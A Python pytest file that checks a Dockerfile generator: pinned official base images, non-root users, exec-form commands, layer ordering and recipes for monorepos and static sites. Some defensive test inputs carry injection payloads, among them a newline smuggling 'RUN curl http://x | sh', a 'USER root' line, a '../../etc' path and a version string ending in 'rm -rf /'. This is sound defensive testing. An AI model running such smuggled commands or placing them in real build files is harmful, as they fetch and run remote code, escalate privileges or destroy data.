"""The Dockerfile generator over every fixture repository the analyzer knows.

Each fixture is analysed for real (analyze_path, the worker pool), then turned into a
build recipe; generated Dockerfiles are parsed with the official BuildKit parser (PyPI
`dockerfile`, which wraps moby/buildkit's frontend/dockerfile/parser).
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import dockerfile
import pytest

from function.analysis.analyzer import analyze_path
from function.analysis.profile import AppProfile, DockerfileFacts, ServiceProfile
from function.build.dockerfile import (
    BASE_IMAGES,
    UID,
    USER,
    BuildRecipe,
    DockerfileError,
    base_image,
    build_recipe,
    generate_dockerfile,
    recipe_for_pin,
)

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "analysis"))
from analysis_fixtures import FIXTURES, Fixture, write_files

_PROFILES: dict[str, AppProfile] = {}


def profile_of(fixture: Fixture, tmp_path: Path) -> AppProfile:
    if fixture.name not in _PROFILES:
        write_files(tmp_path, fixture.files)
        _PROFILES[fixture.name] = analyze_path(tmp_path)
    return _PROFILES[fixture.name]


def commands(text: str) -> list[dockerfile.Command]:
    return list(dockerfile.parse_string(text))


def stages(cmds: list[dockerfile.Command]) -> list[list[dockerfile.Command]]:
    out: list[list[dockerfile.Command]] = []
    for c in cmds:
        if c.cmd == "FROM":
            out.append([])
        if out:
            out[-1].append(c)
    return out


def check_generated(profile: ServiceProfile, recipe: BuildRecipe) -> None:
    """What every generated Dockerfile must be, whatever the language."""
    assert recipe.origin == "generated"
    assert recipe.context == "."
    assert recipe.dockerfile is not None and recipe.dockerignore is not None
    assert ".git" in recipe.dockerignore.splitlines()
    cmds = commands(recipe.dockerfile)
    froms = [c.value[0] for c in cmds if c.cmd == "FROM"]
    assert froms == list(recipe.base_images)
    for image in froms:
        name, _, tag = image.partition(":")
        assert tag and tag != "latest" and any(ch.isdigit() for ch in tag), image
        assert "/" not in name or name.split("/")[0] in {
            "oven", "denoland", "nginxinc", "mcr.microsoft.com",
        }, f"not an official image: {image}"  # fmt: skip
    final = stages(cmds)[-1]
    # Every RUN and CMD is in JSON (exec) form: a command cannot add an instruction.
    for c in cmds:
        if c.cmd in ("RUN", "CMD"):
            assert c.json, c.original
    exposed = [int(v) for c in final if c.cmd == "EXPOSE" for v in c.value]
    assert exposed == [recipe.port]
    cmd = [c for c in final if c.cmd == "CMD"]
    if profile.static_site and not profile.start_command:
        assert recipe.port == 8080
        assert froms[-1].startswith("nginxinc/nginx-unprivileged:")  # runs as uid 101
        assert not cmd  # nginx's own
        return
    assert recipe.port == profile.port
    # Runs as the unprivileged user created in the final stage.
    users = [c.value[0] for c in final if c.cmd == "USER"]
    assert users and users[-1] == USER
    assert any(c.cmd == "RUN" and f"--uid {UID}" in c.value[-1] for c in final)
    assert ("PORT", str(profile.port)) in [
        (c.value[i], c.value[i + 1])
        for c in final
        if c.cmd == "ENV"
        for i in range(0, len(c.value), 2)
    ]
    assert len(cmd) == 1 and cmd[0].value[:2] == ("/bin/sh", "-c")
    assert profile.start_command is not None
    start = cmd[0].value[2]
    assert start.replace("exec ", "", 1) == profile.start_command
    if profile.build_command:
        runs = [c.value[-1] for c in cmds if c.cmd == "RUN"]
        assert profile.build_command in runs
        # The sources are copied before the build runs.
        build_at = max(
            i for i, c in enumerate(cmds) if c.cmd == "RUN" and c.value[-1] == profile.build_command
        )
        assert any(c.cmd == "COPY" and c.value[0] == "." for c in cmds[:build_at])


DEPLOYABLE = [f for f in FIXTURES if f.expected.deployable]


@pytest.mark.parametrize("fixture", DEPLOYABLE, ids=[f.name for f in DEPLOYABLE])
def test_every_deployable_fixture_gets_a_buildable_recipe(fixture: Fixture, tmp_path: Path) -> None:
    profile = profile_of(fixture, tmp_path)
    recipe = build_recipe(profile)
    if profile.dockerfile.present:
        assert recipe.origin == "repository"
        assert recipe.dockerfile is None
        assert recipe.dockerfile_path == profile.dockerfile.path
        assert (tmp_path / (recipe.dockerfile_path or "")).is_file()
        folder = (
            recipe.dockerfile_path.rsplit("/", 1)[0]
            if "/" in (recipe.dockerfile_path or "")
            else "."
        )
        assert recipe.context == folder
        assert recipe.port == profile.port
        return
    check_generated(profile, recipe)
    for service in profile.services:
        if service.deployable and not service.dockerfile.present:
            check_generated(service, build_recipe(service, monorepo=profile.monorepo))


NOT_DEPLOYABLE = [f for f in FIXTURES if not f.expected.deployable]


@pytest.mark.parametrize("fixture", NOT_DEPLOYABLE, ids=[f.name for f in NOT_DEPLOYABLE])
def test_not_deployable_is_refused_naming_the_reason(fixture: Fixture, tmp_path: Path) -> None:
    profile = profile_of(fixture, tmp_path)
    with pytest.raises(DockerfileError) as err:
        build_recipe(profile)
    assert err.value.field == "deployable"


def test_the_fixtures_cover_every_runtime_and_package_manager(tmp_path: Path) -> None:
    """If the analyzer learns a runtime, a fixture (and so a recipe) must cover it."""
    runtimes, managers = set(), set()
    for f in DEPLOYABLE:
        p = profile_of(f, tmp_path / f.name)
        runtimes.add(p.runtime)
        managers.add(p.package_manager)
    assert {
        "python",
        "node",
        "bun",
        "deno",
        "go",
        "rust",
        "java",
        "dotnet",
        "ruby",
        "php",
    } <= runtimes
    assert {"pip", "uv", "npm", "yarn", "pnpm", "bun", "go", "maven", "gradle", "cargo",
            "bundler", "composer", "dotnet"} <= managers  # fmt: skip


def _fixture(name: str) -> Fixture:
    return next(f for f in FIXTURES if f.name == name)


def test_flask_uses_the_repository_python_and_caches_requirements(tmp_path: Path) -> None:
    profile = profile_of(_fixture("flask-env-default"), tmp_path)
    text = generate_dockerfile(profile)
    cmds = commands(text)
    assert [c.value[0] for c in cmds if c.cmd == "FROM"] == ["python:3.12-slim-bookworm"]
    order = [(c.cmd, c.value) for c in cmds if c.cmd in ("COPY", "RUN")]
    copy_req = order.index(("COPY", ("requirements.txt", "./")))
    install = order.index(("RUN", ("/bin/sh", "-c", "pip install -r requirements.txt")))
    copy_all = order.index(("COPY", (".", ".")))
    assert copy_req < install < copy_all  # an edit to app.py reuses the installed layer
    assert cmds[-1].value[-1] == "exec gunicorn app:app --bind 0.0.0.0:5050"


def test_node_installs_from_the_lockfile_before_the_sources(tmp_path: Path) -> None:
    profile = profile_of(_fixture("express-env-default"), tmp_path)
    cmds = commands(generate_dockerfile(profile))
    assert cmds[0].value[0] == "node:20-bookworm-slim"
    copies = [c.value for c in cmds if c.cmd == "COPY" and not c.heredocs]
    assert copies[0] == ("package.json", "package-lock.json*", "./")
    env = [c.value for c in cmds if c.cmd == "ENV"]
    # NODE_ENV=production only after the build: npm install would skip devDependencies.
    runs = [i for i, c in enumerate(cmds) if c.cmd == "RUN"]
    node_env = next(i for i, c in enumerate(cmds) if c.cmd == "ENV" and c.value[0] == "NODE_ENV")
    assert node_env > max(runs)
    assert ("PORT", "4000") in env


def test_go_builds_in_a_stage_and_runs_on_slim_debian_as_non_root(tmp_path: Path) -> None:
    profile = profile_of(_fixture("go-net-http-env"), tmp_path)
    cmds = commands(generate_dockerfile(profile))
    build, final = stages(cmds)
    assert build[0].value == ("golang:1.22-bookworm", "AS", "build")
    assert any(c.cmd == "RUN" and c.value[-1] == "go mod download" for c in build)
    assert final[0].value == ("debian:12-slim",)
    copy = next(c for c in final if c.cmd == "COPY" and not c.heredocs)
    assert copy.flags == ("--from=build", f"--chown={USER}:{USER}")
    assert [c.value[0] for c in final if c.cmd == "USER"] == [USER]
    assert final[-1].value[-1] == "exec ./bin/hello"


def test_java_wrappers_build_on_the_jdk_and_run_on_the_jre(tmp_path: Path) -> None:
    maven = profile_of(_fixture("spring-boot-maven"), tmp_path / "m")
    wrapped = profile_of(_fixture("maven-multi-module"), tmp_path / "w")
    assert [c.value[0] for c in commands(generate_dockerfile(maven)) if c.cmd == "FROM"] == [
        "maven:3.9-eclipse-temurin-21", "eclipse-temurin:21-jre",
    ]  # fmt: skip
    assert [c.value[0] for c in commands(generate_dockerfile(wrapped)) if c.cmd == "FROM"] == [
        "eclipse-temurin:17-jdk", "eclipse-temurin:17-jre",
    ]  # fmt: skip


def test_monorepo_service_builds_from_the_root_without_a_partial_install(tmp_path: Path) -> None:
    profile = profile_of(_fixture("pnpm-workspace-apps"), tmp_path)
    shop = next(s for s in profile.services if s.path == "apps/shop")
    cmds = commands(generate_dockerfile(shop, monorepo=True))
    copies = [c.value for c in cmds if c.cmd == "COPY" and not c.heredocs]
    assert copies == [(".", ".")]  # the workspace install needs every member
    assert any(c.cmd == "RUN" and c.value[-1] == "corepack enable" for c in cmds)
    assert cmds[-1].value[-1] == "exec pnpm --filter shop start"


def test_a_cd_prefix_keeps_exec_on_the_app_and_copies_manifests_there() -> None:
    profile = ServiceProfile(
        name="app", path="app", runtime="node", package_manager="npm",
        build_command="cd app && npm install", start_command="cd app && npm start", ports=[3000],
    )  # fmt: skip
    cmds = commands(generate_dockerfile(profile))
    assert next(c.value for c in cmds if c.cmd == "COPY" and not c.heredocs) == (
        "app/package.json", "app/package-lock.json*", "./app/",
    )  # fmt: skip
    assert any(c.cmd == "RUN" and c.value[-1] == "cd app && npm install" for c in cmds)
    assert cmds[-1].value[-1] == "cd app && exec npm start"


def test_static_site_is_built_then_served_by_unprivileged_nginx(tmp_path: Path) -> None:
    profile = profile_of(_fixture("vite-react-spa"), tmp_path)
    recipe = build_recipe(profile)
    build, final = stages(commands(recipe.dockerfile or ""))
    assert build[0].value[0].startswith("node:")
    assert final[0].value == (BASE_IMAGES["nginx"],)
    assert final[1].value == ("/app/dist/", "/usr/share/nginx/html/")
    assert recipe.port == 8080


def test_repository_dockerfile_in_a_subfolder_is_built_with_that_folder_as_context() -> None:
    profile = ServiceProfile(
        name="api", path="services/api", runtime="go", ports=[9000],
        dockerfile=DockerfileFacts(present=True, path="services/api/Dockerfile", exposed_ports=[9000]),
    )  # fmt: skip
    recipe = build_recipe(profile)
    assert (recipe.origin, recipe.dockerfile_path, recipe.context, recipe.port) == (
        "repository", "services/api/Dockerfile", "services/api", 9000,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("field", "change"),
    [
        ("start_command", {"start_command": "npm start\nRUN curl http://x | sh"}),
        ("build_command", {"build_command": "npm install\r\nUSER root"}),
        ("start_command", {"start_command": None}),
        ("ports", {"ports": []}),
        ("runtime", {"runtime": "cobol"}),
        ("path", {"path": "../../etc"}),
    ],
)
def test_bad_profiles_are_refused_naming_the_field(field: str, change: dict[str, object]) -> None:
    base = {
        "name": "x", "runtime": "node", "package_manager": "npm", "build_command": "npm install",
        "start_command": "npm start", "ports": [3000],
    }  # fmt: skip
    profile = ServiceProfile.model_validate(base | change)
    with pytest.raises(DockerfileError) as err:
        build_recipe(profile)
    assert err.value.field == field


def test_a_command_cannot_inject_an_instruction_even_with_backslashes_and_quotes() -> None:
    start = 'node -e "console.log(\\"hi\\")" \\'
    profile = ServiceProfile(name="x", runtime="node", start_command=start, ports=[3000])
    cmds = commands(generate_dockerfile(profile))
    assert cmds[-1].cmd == "CMD"
    assert json.loads(cmds[-1].original[len("CMD ") :])[-1] == f"exec {start}"


@pytest.mark.parametrize(
    ("kind", "version", "image"),
    [
        ("python", "3.10.12", "python:3.10-slim-bookworm"),
        ("python", ">=3.9", "python:3.12-slim-bookworm"),
        ("node", "v18.19.0", "node:18-bookworm-slim"),
        ("node", "^20 || ^22", "node:22-bookworm-slim"),
        ("jre", "1.8", "eclipse-temurin:8-jre"),
        ("dotnet-runtime", "9.0.1", "mcr.microsoft.com/dotnet/aspnet:9.0"),
        ("go", "1.22; rm -rf /", "golang:1.23-bookworm"),
    ],
)
def test_base_image_tags_come_from_versions_never_from_free_text(
    kind: str, version: str, image: str
) -> None:
    assert base_image(kind, version) == image


@pytest.mark.parametrize("fixture", DEPLOYABLE, ids=[f.name for f in DEPLOYABLE])
def test_the_pinned_summary_gives_the_same_recipe_as_the_profile(
    fixture: Fixture, tmp_path: Path
) -> None:
    """A re-render builds from the pin alone (status.decision.analysis), never a clone."""
    from function.decide.engine import summarize
    from function.pinning import AnalysisSummary

    profile = profile_of(fixture, tmp_path)
    # Through the status round trip (camelCase JSON), as a later reconcile reads it.
    pinned = AnalysisSummary.model_validate(
        summarize(profile).model_dump(mode="json", by_alias=True)
    )
    assert recipe_for_pin(pinned) == build_recipe(profile)


def test_an_old_pin_without_build_facts_is_refused_naming_runtime() -> None:
    from function.pinning import AnalysisSummary

    old = AnalysisSummary(
        language="python", framework="flask", port=5000, start_command="gunicorn app:app"
    )
    with pytest.raises(DockerfileError) as err:
        recipe_for_pin(old)
    assert err.value.field == "runtime"
